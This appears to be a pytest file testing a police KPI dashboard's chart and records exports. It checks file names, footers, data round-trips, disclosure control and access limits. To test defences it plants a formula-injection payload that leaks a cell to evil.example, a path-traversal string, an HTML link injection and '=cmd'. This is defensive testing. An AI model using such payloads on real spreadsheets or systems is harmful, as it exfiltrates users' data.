"""Chart and records exports (issue 12), in-process: names, the snapshot figure, the files written.

Every file is opened and read back: the PNG's IHDR, the SVG as XML, the CSV and the XLSX (with
openpyxl) against the chart's own numbers (``ui.area_page.area_chart``). The data is the tiny
hand-made extract of the KPI tests, with one LPA renamed to a spreadsheet formula.
"""

from __future__ import annotations

import csv
import io
import json
import struct
import threading
import xml.etree.ElementTree as ET
from datetime import UTC, date, datetime

import pandas as pd
import plotly.graph_objects as go
import pytest
from werkzeug.exceptions import BadRequest, Forbidden, NotFound

import figures
from exports.cells import inert_cell
from exports.disclosure import NOTE, control_row
from tests import kpi_fixtures

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
AREA = "initial_contact"
TREND = "trend-thrive_completion_pct"
BY_LPA = "breakdown-0"  # THRIVE completion by LPA (pages/initial_contact.py)


# --------------------------------------------------------------------------- fixtures


@pytest.fixture(scope="module")
def crafted_dir(tmp_path_factory):
    """The KPI tests' extract (Dorset and Wiltshire), with incidents of LPA West renamed to a formula."""
    frames = kpi_fixtures.all_frames()
    incidents = frames["incidents"]
    frames["incidents"] = incidents.assign(lpa=incidents["lpa"].replace({kpi_fixtures.WEST: EVIL}))
    data_dir = tmp_path_factory.mktemp("exports-data")
    kpi_fixtures.write_fixtures(data_dir, frames)
    return data_dir


@pytest.fixture(scope="module")
def exports(crafted_dir):
    """exports.routes, with the app's pages registered and its store on the crafted extract."""
    import app  # noqa: F401  (registers the pages, and with them each area's breakdowns)
    from exports import routes
    from ui import state

    state.configure(crafted_dir)
    return routes


@pytest.fixture
def dorset():
    from ui.filters import FilterState

    return FilterState("2022-01", "2022-03", "Dorset")


def _about(**changes):
    from exports.routes import About

    fields = dict(
        title="THRIVE completion, Dorset, East LPA, Apr 2021 – Mar 2022",
        area="Initial contact",
        kpi_id="thrive_completion_pct",
        kpi_label="THRIVE completion",
        unit="pct",
        definition="Of incidents received: % with a THRIVE risk assessment on the log.",
        numerator="Those with a THRIVE risk assessment on the log",
        denominator="Incidents received",
        period_rule="Events in the period, by the date the source table records them.",
        source="incidents",
        target="≥ 100% (a setting)",
        force="Dorset",
        lpa="East",
        local_authority=None,
        period_from="2021-04",
        period_to="2022-03",
        as_of=date(2022, 3, 31),
        as_of_tables="incidents",
        data_version="0123456789abcdef",
        spc_words="Common cause variation; Hit and miss",
        n=1234.0,
        exported_at=datetime(2026, 12, 1, 9, 30, tzinfo=UTC),
        exported_by="analyst-user",
    )
    fields.update(changes)
    return About(**fields)


def _trend() -> go.Figure:
    months = [f"2021-{m:02d}" for m in range(4, 13)] + ["2022-01", "2022-02", "2022-03"]
    series = pd.DataFrame(
        {
            "month": months,
            "value": [90.0 + i % 4 for i in range(12)],
            "numerator": [90 + i % 4 for i in range(12)],
            "denominator": [100] * 12,
        }
    )
    return figures.trend_figure(series, title="THRIVE completion<br>Dorset, East LPA", unit="pct", target=100)


def _png_size(body: bytes) -> tuple[int, int]:
    assert body[:8] == b"\x89PNG\r\n\x1a\n", "not a PNG"
    length, kind = struct.unpack(">I4s", body[8:16])
    assert kind == b"IHDR" and length == 13
    return struct.unpack(">II", body[16:24])


def _svg_text(body: bytes) -> str:
    root = ET.fromstring(body)  # parses, or the test fails
    assert root.tag.endswith("svg")
    return " ".join("".join(node.itertext()) for node in root.iter() if node.tag.endswith("}text"))


def _read_csv(body: bytes) -> tuple[dict[str, str], pd.DataFrame, list[list[str]]]:
    """(header block, table as read by pandas, table as raw cells)."""
    text = body.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    blank = rows.index([])
    header = dict(rows[:blank])
    table = pd.read_csv(io.StringIO("\n".join(text.splitlines()[blank + 1 :])), dtype={0: str})
    return header, table, rows[blank + 1 :]


def _read_xlsx(body: bytes, sheet: str = "Data"):
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(body))
    about = {row[0].value: row[1].value for row in book["About"].iter_rows()}
    cells = list(book[sheet].iter_rows())
    return book, about, cells


def _numbers(frame: pd.DataFrame, first: str) -> pd.DataFrame:
    """A chart table typed for comparison: the label as the (inert) text a file holds, the rest as floats."""
    out = frame.copy()
    out[first] = [inert_cell(str(v)) for v in out[first]]
    for column in out.columns.drop(first):
        out[column] = pd.to_numeric(out[column], errors="coerce").astype(float)
    return out.reset_index(drop=True)


# --------------------------------------------------------------------------- names


def test_file_names_are_whole_safe_and_name_every_filter():
    from exports.routes import file_stem, slug
    from ui.filters import FilterState

    state = FilterState("2021-04", "2022-03", "Dorset", "East Dorset/Poole & Wimborne", "Ynys Môn")
    assert file_stem("initial_contact", "thrive_completion_pct", state) == (
        "initial_contact_thrive_completion_pct_2021-04_2022-03_dorset_east-dorset-poole-wimborne_ynys-mon"
    )
    plain = FilterState("2021-04", "2022-03", "Dorset")
    assert (
        file_stem("detention", "aa_within_2h_pct", plain)
        == "detention_aa_within_2h_pct_2021-04_2022-03_dorset"
    )
    long_name = "A very long local policing area name " * 6
    assert slug(long_name) == "-".join(long_name.lower().split()), "never truncated"
    assert slug("../../etc/passwd") == "etc-passwd"
    assert slug(EVIL) == "hyperlink-http-evil-example-leak-a1-click"
    # A name with no ASCII letter at all still names one thing, differently from another.
    assert slug("東京").startswith("x") and slug("東京") != slug("大阪")


# --------------------------------------------------------------------------- the snapshot figure (pure)


def test_the_snapshot_figure_carries_title_filters_period_as_of_spc_and_n():
    from exports.routes import SNAPSHOT_HEIGHT, SNAPSHOT_WIDTH, footer_text, snapshot_figure

    chart = _trend()
    before = chart.to_json()
    fig = snapshot_figure(chart, _about())
    assert chart.to_json() == before, "the chart itself is not changed"
    assert (fig.layout.width, fig.layout.height) == (SNAPSHOT_WIDTH, SNAPSHOT_HEIGHT) == (1600, 900)
    assert "THRIVE completion" in fig.layout.title.text
    footer = footer_text(fig)
    for words in (
        "Force Dorset · LPA East · all local authorities",
        "Apr 2021 – Mar 2022",
        "31 Mar 2022 (latest record in incidents)",
        "data version 0123456789abcdef",
        "incidents. Of incidents received: % with a THRIVE risk assessment on the log.",
        "Common cause variation; Hit and miss",
        "n = 1,234",
    ):
        assert words in footer, words
    assert len(fig.data) == len(chart.data), "the data are untouched"


def test_a_breakdown_snapshot_has_no_spc_line_and_a_long_definition_wraps():
    from exports.routes import FOOTER_WRAP, footer_lines, snapshot_figure

    about = _about(spc_words="", definition="word " * 80)
    lines = footer_lines(about)
    assert not any("SPC" in line for line in lines)
    assert "<b>n = 1,234</b>" in lines
    assert sum("word" in line for line in lines) >= 3
    assert all(len(line) <= FOOTER_WRAP + 40 for line in lines)
    fig = snapshot_figure(figures.empty_figure("THRIVE completion by LPA"), about)
    assert fig.layout.margin.b > 22 * len(lines), "the footer has room below the plot"


def test_labels_from_the_data_show_as_text_in_a_snapshot():
    from exports.routes import footer_text, snapshot_figure

    crafted = "<a href='http://evil.example'>East</a>"
    fig = snapshot_figure(_trend(), _about(lpa=crafted, data_version="<b>v</b>"))
    footer = footer_text(fig)
    assert "<a " not in footer and "&lt;a href='http://evil.example'&gt;East&lt;/a&gt;" in footer
    assert "&lt;b&gt;v&lt;/b&gt;" in footer


def test_the_as_of_date_is_the_data_quality_pages_latest_record(exports, dorset):
    from queries.quality import table_summary
    from ui.state import get_store

    store = get_store()
    about = exports.build_about(AREA, "thrive_completion_pct", dorset, title="t")
    summary = table_summary(store, dorset.period, dorset.filters).set_index("table_name")
    assert about.as_of == pd.Timestamp(summary.loc["incidents", "latest_at"]).date()
    assert about.data_version == store.version
    several = exports.build_about("investigation", "impact_cases_per_officer", dorset, title="t")
    assert "team staffing" in several.as_of_tables, "every source table of the KPI counts"


# --------------------------------------------------------------------------- pictures


def test_the_png_is_3200_by_1800_and_the_svg_holds_the_same_texts(exports, dorset):
    from ui.area_page import area_chart

    view = area_chart(AREA, TREND, dorset)
    png = exports.chart_export(AREA, TREND, "png", dorset, user="analyst-user")
    assert png.filename == "initial_contact_thrive_completion_pct_2022-01_2022-03_dorset.png"
    assert _png_size(png.body) == (3200, 1800)
    assert len(png.body) > 50_000, "a drawn chart, not an empty canvas"
    svg = exports.chart_export(AREA, TREND, "svg", dorset)
    assert svg.filename.endswith(".svg") and svg.stem == png.stem
    text = _svg_text(svg.body)
    about = svg.about
    for words in (
        "THRIVE completion",
        "Dorset, Jan 2022 – Mar 2022",
        "Force Dorset · all LPAs · all local authorities",
        about.as_of_words,
        f"data version {about.data_version}",
        "Source: incidents.",
        view.spc_words,
        about.n_words,
    ):
        assert words in text, words
    assert view.spc_words and about.n_words.startswith("n = ")


def test_two_threads_drawing_at_once_each_get_their_own_picture(exports):
    from exports.routes import render_snapshot, snapshot_figure

    results: dict[str, str] = {}

    def draw(name: str):
        fig = snapshot_figure(figures.empty_figure(f"Chart {name}"), _about(title=name))
        results[name] = _svg_text(render_snapshot(fig, "svg"))

    threads = [threading.Thread(target=draw, args=(name,)) for name in ("alpha", "bravo", "charlie")]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(120)
    assert set(results) == {"alpha", "bravo", "charlie"}
    for name, text in results.items():
        assert f"Chart {name}" in text
        assert not any(f"Chart {other}" in text for other in results if other != name)


# --------------------------------------------------------------------------- data files


@pytest.mark.parametrize(("key", "first"), [(TREND, "month"), (BY_LPA, "group")])
def test_csv_and_xlsx_round_trip_to_the_charts_numbers(exports, dorset, key, first):
    from queries.definitions import define
    from ui.area_page import area_chart
    from ui.state import get_store

    view = area_chart(AREA, key, dorset)
    expected = _numbers(view.table, first)
    definition = define(view.kpi_id, get_store().settings)

    made = exports.chart_export(AREA, key, "csv", dorset, user="analyst-user")
    header, table, _cells = _read_csv(made.body)
    pd.testing.assert_frame_equal(_numbers(table, first), expected)
    assert header["Definition"] == definition.definition and header["Source"] == definition.source
    assert header["Force"] == "Dorset" and header["LPA"] == "All LPAs"
    assert header["Period"] == "Jan 2022 – Mar 2022 (2022-01 to 2022-03)"
    assert header["Data as of"] == made.about.as_of_words
    assert header["Data version"] == get_store().version
    assert header["Disclosure control"].startswith("Not applied")
    assert "analyst-user" in header["Exported"]
    if key == TREND:
        assert header["Variation and assurance"] == view.spc_words
    else:
        assert made.filename.startswith("initial_contact_thrive_completion_pct-by-lpa_2022-01_2022-03")

    made = exports.chart_export(AREA, key, "xlsx", dorset)
    book, about, cells = _read_xlsx(made.body)
    assert book.sheetnames == ["About", "Data"]
    assert about["Definition"] == definition.definition and about["Data version"] == get_store().version
    assert about["Period"] == header["Period"]
    frame = pd.DataFrame([[c.value for c in row] for row in cells[1:]], columns=[c.value for c in cells[0]])
    pd.testing.assert_frame_equal(_numbers(frame, first), expected)


def test_formula_cells_from_the_data_are_inert_in_csv_and_xlsx(exports, dorset):
    made = exports.chart_export(AREA, BY_LPA, "csv", dorset)
    _header, _table, cells = _read_csv(made.body)
    groups = [row[0] for row in cells[1:]]
    assert "'" + EVIL in groups and EVIL not in groups

    _book, _about, rows = _read_xlsx(exports.chart_export(AREA, BY_LPA, "xlsx", dorset).body)
    evil = [row[0] for row in rows[1:] if "HYPERLINK" in str(row[0].value)]
    assert len(evil) == 1 and evil[0].value == "'" + EVIL and evil[0].data_type == "s"

    # The LPA as a filter: in the header block, the sheet "About" and the file's name.
    from ui.filters import FilterState

    narrowed = FilterState("2022-01", "2022-03", "Dorset", EVIL)
    made = exports.chart_export(AREA, TREND, "csv", narrowed)
    header, _table, _cells = _read_csv(made.body)
    assert header["LPA"] == "'" + EVIL
    assert all(not v.startswith(("=", "+", "-", "@")) for v in header.values())
    assert set(made.filename) <= set("abcdefghijklmnopqrstuvwxyz0123456789-_.")
    _book, about, _rows = _read_xlsx(exports.chart_export(AREA, TREND, "xlsx", narrowed).body)
    assert about["LPA"] == "'" + EVIL

    records = exports.records_export(AREA, "thrive_completion_pct", "csv", dorset, purpose="=cmd")
    header, _table, cells = _read_csv(records.body)
    assert header["Purpose"] == "'=cmd"
    lpa = cells[0].index("lpa")
    assert "'" + EVIL in {row[lpa] for row in cells[1:]}
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in cells for cell in row)


def test_disclosure_control_applies_the_one_rule_and_says_so(exports, dorset):
    from ui.area_page import area_chart

    view = area_chart(AREA, BY_LPA, dorset)
    made = exports.chart_export(AREA, BY_LPA, "csv", dorset, disclosure=True)
    header, _table, cells = _read_csv(made.body)
    assert header["Disclosure control"] == NOTE
    expected = [
        control_row(row, counts=("numerator", "denominator"), value="value", denominator="denominator")
        for row in view.table.to_dict("records")
    ]
    assert any(row["denominator"] == "<5" for row in expected), "the tiny extract has small counts"
    for row, want in zip(cells[1:], expected, strict=True):
        shown = dict(zip(cells[0], row, strict=True))
        for column in ("value", "numerator", "denominator"):
            value = want[column]
            assert shown[column] == (value if isinstance(value, str) else repr(float(value))), column
    _book, about, rows = _read_xlsx(exports.chart_export(AREA, BY_LPA, "xlsx", dorset, disclosure=True).body)
    assert about["Disclosure control"] == NOTE
    assert "<5" in {c.value for row in rows for c in row}


def test_records_are_the_rows_the_records_grid_shows(exports, dorset):
    from queries.kpis import kpi_records
    from ui.state import get_store

    # The grid opens on the KPI's own rows; "every row in scope" is the other choice.
    everything, _ = kpi_records(
        get_store(), "thrive_completion_pct", dorset.period, dorset.filters, rows="all"
    )
    wide = exports.records_export(
        AREA, "thrive_completion_pct", "csv", dorset, purpose="Case review", every_row=True
    )
    assert wide.rows == len(everything)
    rows, total = kpi_records(get_store(), "thrive_completion_pct", dorset.period, dorset.filters, rows="kpi")
    assert "in_numerator" in rows.columns
    made = exports.records_export(AREA, "thrive_completion_pct", "xlsx", dorset, purpose="Case review")
    assert made.filename == "initial_contact_thrive_completion_pct_records_2022-01_2022-03_dorset.xlsx"
    book, about, cells = _read_xlsx(made.body, sheet="Records")
    assert book.sheetnames == ["About", "Records"]
    assert about["Rows"] == f"{len(rows):,} of {total:,}" and about["Purpose"] == "Case review"
    assert "Disclosure control" not in about
    assert [c.value for c in cells[0]] == list(rows.columns)
    assert len(cells) - 1 == len(rows) == made.rows
    ids = rows.columns[0]
    assert [row[0].value for row in cells[1:]] == [inert_cell(v) for v in rows[ids]]

    made = exports.records_export(AREA, "thrive_completion_pct", "csv", dorset, purpose="Case review")
    header, table, _cells = _read_csv(made.body)
    assert len(table) == len(rows) and list(table.columns) == list(rows.columns)
    assert header["Rows"] == about["Rows"]


@pytest.mark.parametrize(
    ("area", "key", "fmt", "disclosure", "error"),
    [
        ("nowhere", TREND, "png", False, NotFound),
        (AREA, "trend-no_such_kpi", "csv", False, NotFound),
        (AREA, "trend-aa_within_2h_pct", "csv", False, NotFound),  # a KPI of another area
        (AREA, "breakdown-99", "csv", False, NotFound),
        (AREA, "breakdown--1", "csv", False, NotFound),
        (AREA, "pie-0", "csv", False, NotFound),
        (AREA, TREND, "exe", False, NotFound),
        (AREA, TREND, "png", True, BadRequest),
    ],
)
def test_an_unknown_chart_format_or_use_is_refused(exports, dorset, area, key, fmt, disclosure, error):
    with pytest.raises(error):
        exports.chart_export(area, key, fmt, dorset, disclosure=disclosure)


def test_records_of_an_unknown_kpi_or_format_are_refused(exports, dorset):
    for area, kpi, fmt in [
        (AREA, "nope", "csv"),
        (AREA, "aa_within_2h_pct", "csv"),
        (AREA, "thrive_completion_pct", "png"),
    ]:
        with pytest.raises(NotFound):
            exports.records_export(area, kpi, fmt, dorset, purpose="Case review")


# --------------------------------------------------------------------------- the request's state


@pytest.fixture
def request_as(exports):
    """``with request_as("analyst", "Wiltshire", "?force=Dorset"):`` — a request of a signed-in user."""
    import contextlib

    @contextlib.contextmanager
    def enter(role: str, force: str | None, query: str):
        import flask_login

        import app as app_module
        from auth import Principal
        from auth.web import SessionUser

        with app_module.server.test_request_context("/export/chart/x/y.csv" + query):
            flask_login.login_user(SessionUser(Principal("state-test", role, force, "local")))
            yield

    return enter


def test_a_force_limited_user_never_gets_another_force(exports, request_as):
    with (
        request_as("analyst", "Wiltshire", "?force=Dorset&from=2022-02&to=2022-03"),
        pytest.raises(Forbidden),
    ):
        exports.export_state()
    with request_as("analyst", "Wiltshire", "?from=2022-02&to=2022-03"):
        assert exports.export_state().force == "Wiltshire"
    with request_as("analyst", "Wiltshire", "?force=Wiltshire&from=2022-02&to=2022-03"):
        assert exports.export_state().force == "Wiltshire"
    with request_as("analyst", None, "?force=Dorset&from=2022-01&to=2022-03&lpa=East"):
        state = exports.export_state()
        assert (state.force, state.lpa, state.period_from) == ("Dorset", "East", "2022-01")


@pytest.mark.parametrize(
    "query",
    [
        "?from=2022-13&to=2022-03",
        "?from=abc",
        "?from=2022-03&to=2022-01",
        "?force=Atlantis",
        "?force=Dorset&lpa=Nowhere",
        "?force=Dorset&local_authority=Nowhere",
        "?from=2019-01&to=2019-06",
    ],
)
def test_a_selection_the_data_cannot_give_is_refused_not_replaced(exports, request_as, query):
    with request_as("analyst", None, query), pytest.raises(BadRequest):
        exports.export_state()


@pytest.mark.parametrize(("value", "asked"), [("", False), ("0", False), ("1", True)])
def test_disclosure_is_asked_with_1(exports, request_as, value, asked):
    with request_as("analyst", None, f"?disclosure={value}"):
        assert exports.disclosure_asked() is asked
    with request_as("analyst", None, "?disclosure=yes"), pytest.raises(BadRequest):
        exports.disclosure_asked()


# --------------------------------------------------------------------------- the download menu


def test_the_download_menu_is_for_analysts_and_its_links_carry_no_filters(exports, as_user):
    from ui.downloads import chart_download_menu, records_download_links

    for role in ("gold", "officer"):
        with as_user(role):
            assert chart_download_menu(AREA, TREND) is None
            assert records_download_links(AREA, "thrive_completion_pct") is None
    with as_user("analyst"):
        menu = chart_download_menu(AREA, TREND)
        links = records_download_links(AREA, "thrive_completion_pct")
    # One component: the button carries the items that assets/export-menu.js turns into links
    # (class export-link, so the page's filters are added when one is used).
    button = menu.children
    assert button.children == "Download" and "dropdown-toggle" in button.className
    items = json.loads(getattr(button, "data-items"))
    hrefs = [item[1] for item in items if item is not None]
    assert hrefs[:4] == [f"/export/chart/{AREA}/{TREND}.{fmt}" for fmt in ("png", "svg", "csv", "xlsx")]
    assert all(h.endswith("?disclosure=1") for h in hrefs[4:]) and len(hrefs) == 6
    assert items[4] is None  # the divider before the disclosure-controlled files
    record_hrefs = [c.href for c in links.children if getattr(c, "href", None)]
    assert record_hrefs == [f"/export/records/{AREA}/thrive_completion_pct.{fmt}" for fmt in ("csv", "xlsx")]


def test_a_picture_that_cannot_be_drawn_is_a_503_and_a_failed_audit_row(exports, request_as, monkeypatch):
    from werkzeug.exceptions import ServiceUnavailable

    from auth import audit

    def broken(*_args, **_kwargs):
        raise exports.RenderError("the chart renderer (headless chromium) could not start: test")

    monkeypatch.setattr(exports.renderer, "render", broken)
    with request_as("analyst", None, "?force=Dorset&from=2022-01&to=2022-03"):
        with pytest.raises(ServiceUnavailable, match="could not start"):
            exports.export_chart(AREA, TREND + ".png")
        with pytest.raises(Forbidden):
            exports.export_records(AREA, "thrive_completion_pct.csv")  # this sign-in gave no purpose
    rows = audit.search(audit.Query(user="state-test", action="export"))
    assert [(r["action"], r["outcome"]) for r in rows[:2]] == [
        ("export records", "refused"),
        ("export chart", "failed"),
    ]
    assert '"reason"' in rows[1]["detail"] and '"chart": "trend-thrive_completion_pct"' in rows[1]["detail"]
